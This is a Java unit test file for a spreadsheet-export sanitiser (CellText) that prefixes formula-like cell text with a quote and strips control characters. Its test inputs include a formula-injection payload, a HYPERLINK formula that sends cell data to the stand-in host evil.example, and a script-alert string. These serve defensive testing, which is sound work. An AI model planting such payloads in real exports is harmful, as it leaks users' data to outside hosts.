package org.spplus.plugin.experiences.export;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CellTextTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"https://evil.example/?d=\"&A1,\"clic\")", "+1", "-2", "@SUM(A1:A9)",
            "\tcmd", "\r=1+1"})
    void textThatCouldBeAFormulaIsPrefixedWithAQuote(String text) {
        assertThat(CellText.safe(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"Bonjour", "a=b", "1+1", "'déjà cité", "", " =1", "<script>alert(1)</script>"})
    void otherTextIsLeftAlone(String text) {
        assertThat(CellText.safe(text)).isSameAs(text);
    }

    @Test
    void controlCharactersAreRemovedButTabsAndLineBreaksKept() {
        assertThat(CellText.clean("a\u0000b\u0007c\u001Bd\u007Fe\u0085f\uFFFEg")).isEqualTo("abcdefg");
        assertThat(CellText.clean("ligne 1\r\nligne 2\tfin")).isEqualTo("ligne 1\r\nligne 2\tfin");
    }

    @Test
    void controlCharactersAreRemovedBeforeLookingForAFormula() {
        assertThat(CellText.safe("\u0000=1+1")).isEqualTo("'=1+1");
    }

    @Test
    void surrogatePairsAreKeptAndLoneHalvesRemoved() {
        assertThat(CellText.clean("ok \uD83D\uDE00")).isEqualTo("ok \uD83D\uDE00");
        assertThat(CellText.clean("a\uD83Db\uDE00c")).isEqualTo("abc");
    }

    @Test
    void truncationNeverSplitsASurrogatePair() {
        assertThat(CellText.truncate("abcdef", 4)).isEqualTo("abcd");
        assertThat(CellText.truncate("abc\uD83D\uDE00", 4)).isEqualTo("abc");
        assertThat(CellText.truncate("abc", 4)).isEqualTo("abc");
    }
}
